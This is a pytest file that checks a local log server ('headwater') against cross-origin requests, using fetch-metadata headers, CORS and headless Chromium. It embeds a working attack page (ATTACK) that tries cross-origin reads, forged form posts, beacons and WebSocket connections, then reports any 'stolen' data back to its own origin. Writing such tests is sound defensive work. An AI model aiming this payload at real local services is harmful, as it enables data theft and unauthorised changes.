"""What pages of other origins can do to a server on loopback: nothing. Without users, and in headless Chromium."""

from __future__ import annotations

import contextlib
import hashlib
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from starlette.applications import Starlette
from starlette.routing import Mount

import headwater
from headwater.server.http.route import Route
from headwater.server.http.routes import ROUTES
from tests.server.browsing import browse, needs_browser, site
from tests.server.process import ServerProcess, http, served
from tests.server.test_asgi import run
from tests.server.test_binders import fill
from tests.waiting import wait_for

__all__ = ["browse"]  # a fixture

SECRET = "swordfish"
NAMES = {"{name}": "t", "{topic}": "t", "{binder}": "baskets", "{id}": "ann", "{query}": "top"}
READS = [route for route in ROUTES if route.method == "GET"]
OPEN = ["/health", "/version", "/openapi.json"]
CROSS = ("cross-site", "same-site", "cross-site, none", "whatever")


def path_of(route: Route) -> str:
    """An address of a route, with names of things that are there."""
    consumer = route.pattern.startswith("/consumer/")
    parts = ["c" if part == "{name}" and consumer else NAMES.get(part, part) for part in route.pattern.split("/")]
    query = {"/api/events": "?type=x", "/topic/{name}/version": "?key=k"}.get(route.pattern, "")
    return "/".join(parts) + (query if (route.method, query) != ("GET", "?type=x") else "")


def prepare(path: Path) -> None:
    """A log with a topic of secrets, a consumer that has not acked anything, and a binder."""
    fill(path, ann=10)
    with headwater.open(path) as hw:
        for number in range(3):
            hw.append("t", f"{SECRET} {number}", type=SECRET, key="k")
        with hw.consumer("waiting", "t", timeout=0) as consumer:
            consumer.fail(next(iter(consumer)), "to be tried again")


def tree(path: Path) -> dict[str, str]:
    """All files of a log, with what is in them; but for the memory that readers of SQLite share."""
    files = (each for each in path.rglob("*") if each.is_file() and each.suffix != ".sqlite-shm")
    files = (each for each in files if each.suffix != ".sqlite-wal" or each.stat().st_size)
    return {str(each.relative_to(path)): hashlib.blake2b(each.read_bytes()).hexdigest() for each in files}


@pytest.fixture
def process(tmp_path: Path) -> Iterator[ServerProcess]:
    """Run a server for each test, whose access log is its alone."""
    prepare(tmp_path / "data")
    with served(tmp_path / "data", "--access-log", str(tmp_path / "access.log")) as running:
        yield running


@pytest.fixture(scope="module")
def prepared(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return the path of the log of `server_url`."""
    path = tmp_path_factory.mktemp("prepared") / "data"
    prepare(path)
    return path


@pytest.fixture(scope="module", params=["served", "mounted"])
def server_url(request: pytest.FixtureRequest, prepared: Path) -> Iterator[str]:
    """The address of a log, served by itself or within another application."""
    with contextlib.ExitStack() as stack:
        if request.param == "served":
            yield stack.enter_context(served(prepared)).url
        else:
            log = headwater.asgi(prepared)
            app = Starlette(routes=[Mount("/log", log)], lifespan=log.lifespan)
            yield stack.enter_context(run(app)) + "/log"


def status(method: str, url: str, **headers: str) -> int:
    """The status of an answer, whose body may have no end."""
    with http.stream(method, url, headers=headers) as answer:
        return answer.status_code


def test_no_get_changes_anything(server_url: str, prepared: Path) -> None:
    before = tree(prepared)
    for route in READS:
        for method in ("GET", "HEAD"):
            assert status(method, server_url + path_of(route)) == 200, route.pattern
    assert status("GET", f"{server_url}/consumer/c/t/items") == 405  # as an image would have joined it
    assert status("HEAD", f"{server_url}/consumer/c/t/items") == 405
    assert tree(prepared) == before


@pytest.mark.parametrize("site", CROSS)
def test_what_a_browser_marks_as_of_another_origin_is_refused(server_url: str, prepared: Path, site: str) -> None:
    before = tree(prepared)
    for route in ROUTES:
        for extra in ({}, {"Sec-Fetch-Mode": "navigate", "Sec-Fetch-Dest": "iframe"}, {"Accept": "*/*"}):
            found = status(route.method, server_url + path_of(route), **{"Sec-Fetch-Site": site, **extra})
            assert found == 403, (route, extra)
    assert tree(prepared) == before


def test_a_link_may_lead_only_to_what_needs_no_right(server_url: str) -> None:
    link = {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Dest": "document"}
    for route in ROUTES:
        wanted = 200 if route.pattern in OPEN else 403
        assert status(route.method, server_url + path_of(route), **link) == wanted, route.pattern


@pytest.mark.parametrize("site", ["none", "same-origin"])
def test_the_user_and_the_pages_of_the_server_may_read(server_url: str, site: str) -> None:
    for route in READS:
        assert status("GET", server_url + path_of(route), **{"Sec-Fetch-Site": site}) == 200, route.pattern


def test_an_origin_that_cors_names_may_call(tmp_path: Path) -> None:
    prepare(tmp_path / "data")
    friend = {"Origin": "http://friend", "Sec-Fetch-Site": "cross-site"}
    with served(tmp_path / "data", "--cors", "http://friend") as server:
        assert status("GET", f"{server.url}/topics", **friend) == 200
        assert status("POST", f"{server.url}/topic/t/items", **friend) == 200
        assert status("GET", f"{server.url}/topics", **{**friend, "Origin": "http://foe"}) == 403
        assert status("GET", f"{server.url}/topics", **{"Sec-Fetch-Site": "cross-site"}) == 403  # nobody knows whose
    with served(tmp_path / "data", "--cors", "*") as server:
        assert status("GET", f"{server.url}/topics", **{"Sec-Fetch-Site": "cross-site"}) == 200


def test_an_append_whose_head_was_remembered_is_refused_with_another_site(server_url: str) -> None:
    plain = {"Content-Type": "text/plain"}
    with httpx.Client() as client:
        for _ in range(3):
            assert client.post(f"{server_url}/topic/t/items", content=b"x", headers=plain).status_code == 200
        marked = {**plain, "Sec-Fetch-Site": "cross-site"}
        for _ in range(3):
            assert client.post(f"{server_url}/topic/t/items", content=b"x", headers=marked).status_code == 403


ATTACK = """<!doctype html><body><script>
const query = new URLSearchParams(location.search);
const {server, tcp, reads, writes} = JSON.parse(query.get("targets"));
const stolen = [];
const soon = (wait) => new Promise((done) => { wait(done); setTimeout(done, 3000); });
const look = (into) => {
  try {
    const text = into().body.innerText;
    if (text) stolen.push(text);
  } catch {}  // it is another origin's
};
const element = (name, attributes) => soon((done) => {
  const made = Object.assign(document.createElement(name), attributes);
  made.onload = made.onerror = () => {
    look(() => made.contentDocument);
    done();
  };
  document.body.append(made);
});
const form = (url, enctype) => soon((done) => {
  const frame = Object.assign(document.createElement("iframe"), {name: "f" + Math.random()});
  document.body.append(frame);
  frame.onload = done;
  const made = document.createElement("form");
  Object.assign(made, {action: url, method: "POST", enctype, target: frame.name});
  made.append(Object.assign(document.createElement("input"), {name: '{"member":"', value: '"}'}));
  document.body.append(made);
  made.submit();
});
const tried = (url, options) => soon((done) => {
  const aborting = new AbortController();
  setTimeout(() => aborting.abort(), 2500);
  fetch(url, {signal: aborting.signal, credentials: "include", ...options}).then(async (answer) => {
    if (answer.type !== "opaque") stolen.push(`${url} ${answer.status}`);
    const text = await answer.text();
    if (text) stolen.push(text);
  }).catch(() => {}).finally(done);
});
const source = (url) => soon((done) => {
  const made = new EventSource(url);
  made.onopen = () => { stolen.push(`${url} opened`); done(); };
  made.onerror = () => { made.close(); done(); };
});
const socket = (url) => soon((done) => {
  const made = new WebSocket(url.replace("http", "ws"));
  made.onopen = () => stolen.push(`${url} opened`);
  made.onclose = made.onerror = done;
});
const popup = (url) => soon((done) => {
  const opened = window.open(url);
  setTimeout(() => {
    look(() => opened.document);
    if (opened) opened.close();
    done();
  }, 500);
});
const enctypes = ["application/x-www-form-urlencoded", "multipart/form-data", "text/plain"];
(async () => {
  for (const path of reads) {
    const url = server + path;
    await Promise.all([element("img", {src: url}), element("script", {src: url}),
      element("link", {rel: "stylesheet", href: url}), element("iframe", {src: url}), element("video", {src: url}),
      tried(url, {mode: "no-cors"}), tried(url, {mode: "cors"}), source(url), socket(url)]);
  }
  await Promise.all(reads.map((path) => popup(server + path)));
  for (const [method, path] of writes) {
    const url = server + path;
    await Promise.all([...enctypes.map((each) => form(url, each)), tried(url, {method, body: "x"}),
      tried(url, {method: "POST", mode: "no-cors", body: "x"}),
      tried(url, {method, mode: "cors", body: "{}", headers: {"content-type": "application/json"}})]);
    navigator.sendBeacon(url, "x");
    navigator.sendBeacon(url, new Blob(["x"], {type: "text/plain"}));
  }
  await Promise.all([form(tcp, "text/plain"), element("img", {src: tcp}),
    tried(tcp, {method: "POST", mode: "no-cors", body: "x"})]);
  await fetch("/tell", {method: "POST", body: JSON.stringify({type: "done", stolen})});
})();
</script>"""


def logged(log: Path) -> list[dict[str, Any]]:
    """What the access log tells, as far as its last line is whole."""
    return [json.loads(line) for line in log.read_text().splitlines(keepends=True) if line.endswith("\n")]


@needs_browser
@pytest.mark.timeout(300)
@pytest.mark.parametrize(  # to the browser, the same site, and another one
    "host", [pytest.param("127.0.0.1", marks=pytest.mark.torture), "localhost"]
)
def test_a_page_of_another_origin_changes_nothing_and_reads_nothing(
    process: ServerProcess, tmp_path: Path, browse: Any, host: str
) -> None:
    before = tree(process.path)
    reads = [path_of(route) for route in READS] + ["/consumer/c/t/items", "/consumer/waiting/t/items"]
    writes = [(route.method, path_of(route)) for route in ROUTES if route.method != "GET"]
    tcp = process.tcp_url.replace("headwater://", "http://")
    targets = json.dumps({"server": process.url, "tcp": tcp, "reads": reads, "writes": writes})
    with site({"/page": ATTACK}) as other:
        address = httpx.URL(f"http://{host}:{other.port}/page", params={"targets": targets})
        browse(str(address), "--disable-popup-blocking")
        assert other.next("done")["stolen"] == []
    log = tmp_path / "access.log"
    wait_for(lambda: sum(line["method"] == "TCP" for line in logged(log)) >= 3)  # which the page tries last
    lines = [line for line in logged(log) if line["path"] != "/favicon.ico"]
    assert {line["status"] for line in lines if line["method"] == "TCP"} == {413}  # a request is no frame
    told = [line for line in lines if line["method"] != "TCP"]
    followed = {line["path"] for line in told if line["status"] == 200}
    assert followed == set(OPEN)  # by a link, which no page can look into
    assert {line["status"] for line in told} == {200, 403, 405}  # 405: joining by GET
    tried = {(line["method"], line["path"]) for line in told}
    assert tried >= {("GET", path.partition("?")[0]) for path in reads}
    assert tried >= {("POST", path.partition("?")[0]) for _, path in writes}
    assert ("OPTIONS", "/topic/t/items") in tried
    assert tree(process.path) == before
